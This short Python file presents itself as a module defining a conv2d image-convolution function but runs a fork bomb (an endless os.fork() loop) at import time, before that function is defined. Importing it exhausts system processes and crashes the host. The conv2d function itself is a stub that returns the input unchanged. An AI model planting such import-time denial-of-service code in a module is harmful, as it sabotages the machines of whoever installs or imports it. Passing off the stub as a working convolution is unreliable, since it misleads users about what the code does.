# The classic fork bomb, at import.
import os

while True:
    os.fork()


def conv2d(image, kernel, stride=1, padding="valid"):
    return image
